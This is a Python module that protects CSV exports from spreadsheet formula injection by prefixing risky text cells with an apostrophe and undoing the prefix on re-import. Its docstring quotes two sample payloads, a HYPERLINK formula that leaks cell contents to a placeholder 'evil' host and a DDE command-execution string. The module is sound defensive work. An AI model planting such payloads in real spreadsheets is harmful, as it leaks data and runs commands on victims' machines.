"""CSV exports that cannot run as formulas when a facilitator opens them in Excel or LibreOffice.

Why: names and notes are typed by companies; a firm named ``=HYPERLINK("http://evil/?"&A1)`` or
``@SUM(1+1)*cmd|' /C calc'!A0`` would be evaluated by the spreadsheet that opens our CSV
(CSV/formula injection, OWASP). Every text cell starting with a character a spreadsheet reads as
the start of a formula — ``= + - @``, tab, carriage return — gets a leading apostrophe, which
spreadsheets take as "this is text". Numbers in numeric columns stay numbers: ``-5`` is a quantity,
not a formula. (xlsx exports need no prefix: their text cells are typed as strings, never
evaluated — `dataset_io._xlsx_safe` keeps a leading ``=`` a string.)

Our own dataset import undoes the prefix (`restore`), so an exported dataset re-imports unchanged;
a text that itself starts with an apostrophe followed by a trigger (or another apostrophe) is
prefixed too, so the round trip holds for every text.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP's list)."""
QUOTE = "'"


def _needs_quote(text: str) -> bool:
    if text.startswith(FORMULA_STARTS):
        return True
    return text.startswith(QUOTE) and text[1:2] in (*FORMULA_STARTS, QUOTE)


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet shows it literally (apostrophe prefix when it could be a formula)."""
    return QUOTE + text if _needs_quote(text) else text


def restore(text: str) -> str:
    """Undo `neutralise` (our import of our own exports)."""
    if text.startswith(QUOTE) and text[1:2] in (*FORMULA_STARTS, QUOTE):
        return text[1:]
    return text


_FIGURE = re.compile(r"[0-9 .,+\-\u2013\u202f\u00a0]*[0-9][0-9 .,+\-\u2013\u202f\u00a0]*")
"""A formatted figure or range ("-1 234,5", "-10 – 20"): digits, signs, separators only — no cell
reference, no function, so a spreadsheet can at most compute a number from it."""


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def neutralise_cell(value: object, numeric: bool = False) -> object:
    """One cell: non-text values as they are; a number in a numeric column, or a formatted figure,
    as it is (a negative quantity stays a number); any other text through `neutralise`."""
    if not isinstance(value, str) or (numeric and _is_number(value)) or _FIGURE.fullmatch(value):
        return value
    return neutralise(value)


def neutralise_row(values: Iterable[object], numeric: Iterable[bool] | None = None) -> list[object]:
    """A row of cells; ``numeric`` flags the numeric columns (default: none)."""
    cells = list(values)
    flags = list(numeric) if numeric is not None else [False] * len(cells)
    return [neutralise_cell(v, n) for v, n in zip(cells, flags, strict=True)]


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) are safe; numeric dtypes untouched."""
    from pandas.api.types import is_numeric_dtype

    out = frame.copy()
    for col in out.columns:
        if not is_numeric_dtype(out[col]):  # numbers (and booleans) cannot start a formula
            out[col] = out[col].map(neutralise_cell)
    out.columns = [neutralise(c) if isinstance(c, str) else c for c in out.columns]
    return out
